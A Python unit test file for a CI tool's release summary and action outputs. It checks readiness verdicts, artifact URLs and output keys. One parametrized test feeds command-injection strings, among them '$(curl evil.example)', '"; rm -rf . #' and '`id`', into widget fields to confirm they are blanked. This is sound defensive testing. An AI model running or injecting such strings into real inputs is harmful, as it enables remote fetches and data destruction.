from __future__ import annotations

import re
import unicodedata

import pytest

from checker.archive import build_archive
from checker.readiness import Readiness
from checker.report import CheckedWidget, Report
from checker.widget.files import FileSet
from entrypoint.artifact import UploadedArtifact
from entrypoint.inputs import OUTPUTS
from entrypoint.release import Release, Upload
from entrypoint.summary import Result, headlines, outputs, summary
from tests.unit.render.reports import CLEAN, FAILING, HOSTILE_TEXTS, report

FILES = {"junit": "out/junit.xml", "sarif": "out/report.sarif", "json": "out/report.json", "markdown": "out/report.md"}
ARTIFACT = UploadedArtifact(1001, "https://github.com/acme/widgets/actions/runs/7/artifacts/1001", "sha256:0", 22)
ARCHIVE = build_archive(FileSet({"manifest.json": b"{}"}))


def release(widget: str = "", *reasons: str, of: Report = CLEAN, name: str = "widget") -> Release:
    return Release(widget, of, ARCHIVE, Readiness(reasons), name)


def result(*found: Release, of: Report = CLEAN, uploads: tuple[Upload, ...] = ()) -> Result:
    archives = {one.widget: f"out/{one.artifact_name}/widget.zip" for one in found}
    return Result(of, found, uploads, FILES, archives)


def test_one_widget_that_was_uploaded() -> None:
    only = release()
    done = result(only, uploads=(Upload(only, ARTIFACT),))
    assert list(headlines(done)) == [
        "verdict: pass (0 errors, 0 warnings)",
        "the widget: release-ready",
        f"artifact widget: {ARTIFACT.url}",
    ]
    assert outputs(done) == {
        "verdict": "pass",
        "release-ready": "true",
        "errors": "0",
        "warnings": "0",
        "junit": "out/junit.xml",
        "sarif": "out/report.sarif",
        "archive": "out/widget/widget.zip",
        "sha256": ARCHIVE.sha256,
        "artifact-id": "1001",
        "artifact-url": ARTIFACT.url,
        "widget-code": "my_widget",
        "version": "1.0.2",
    }


def test_a_widget_with_errors() -> None:
    done = result(release("w", "7 errors", "a fork", of=FAILING), of=FAILING)
    assert list(headlines(done)) == [
        "verdict: fail (7 errors, 1 warning)",
        "w: not release-ready: 7 errors; a fork",
    ]
    told = outputs(done)
    assert (told["verdict"], told["release-ready"], told["errors"], told["warnings"]) == ("fail", "false", "7", "1")
    assert (told["artifact-id"], told["artifact-url"]) == ("", "")


def test_an_upload_that_failed_leaves_the_outputs_empty() -> None:
    only = release()
    told = outputs(result(only, uploads=(Upload(only, problem="no service"),)))
    assert (told["release-ready"], told["artifact-id"], told["artifact-url"]) == ("true", "", "")


def test_of_several_widgets_what_belongs_to_one_is_empty() -> None:
    several = (release("a", name="widget-a"), release("b", "an error", name="widget-b"))
    told = outputs(result(*several))
    empty = {name for name, value in told.items() if value == ""}
    assert empty == {"archive", "sha256", "artifact-id", "artifact-url", "widget-code", "version"}
    assert told["release-ready"] == "false", "all of them must be"
    assert outputs(result(release("a"), release("b")))["release-ready"] == "true"


def test_nothing_checked_is_not_ready() -> None:
    done = result(of=report(widgets=()))
    assert (outputs(done)["release-ready"], outputs(done)["verdict"]) == ("false", "incomplete")


def test_every_output_of_the_table_is_set_and_no_other() -> None:
    assert outputs(result(release())).keys() == {spec.name for spec in OUTPUTS}
    assert outputs(result()).keys() == {spec.name for spec in OUTPUTS}


def test_a_widget_without_code_and_archive_has_empty_outputs() -> None:
    bare = report(widgets=(CheckedWidget("", None, None, 0),))
    told = outputs(Result(bare, (Release("", bare, None, Readiness(("x",)), "widget"),), (), FILES, {}))
    assert (told["widget-code"], told["version"], told["archive"], told["sha256"]) == ("", "", "", "")


@pytest.mark.parametrize("text", HOSTILE_TEXTS)
def test_texts_of_a_widget_are_made_harmless(text: str) -> None:
    hostile = report(widgets=(CheckedWidget("", text, text, 1),))
    done = result(release(text, text, of=hostile), of=hostile)
    told = outputs(done)
    line = summary(done).removesuffix("\n").rpartition("\n")[2]
    assert line.startswith("- ")
    for shown in (line, told["widget-code"], told["version"]):
        assert not {unicodedata.category(character) for character in shown} & {"Cc", "Cf", "Cs", "Zl", "Zp"}
    assert "<script" not in line
    assert "@mention" not in line
    assert not re.search(r"(?<!\\)\]\(", line)


@pytest.mark.parametrize(
    "text", ["$(curl evil.example)", '"; rm -rf . #', "`id`", "1.0 && x", "a\nb", "-rf", "a" * 200, "код"]
)
def test_what_a_script_could_run_is_no_output(text: str) -> None:
    hostile = report(widgets=(CheckedWidget("", text, text, 1),))
    told = outputs(result(release(text, text, of=hostile), of=hostile))
    assert (told["widget-code"], told["version"]) == ("", "")


def test_the_summary_ends_with_the_release() -> None:
    only = release()
    text = summary(result(only, uploads=(Upload(only, ARTIFACT),)))
    assert "\n### Release\n\n- verdict: pass" in text
    assert text.endswith("\n")
    assert ARTIFACT.url.rpartition("/")[2] in text
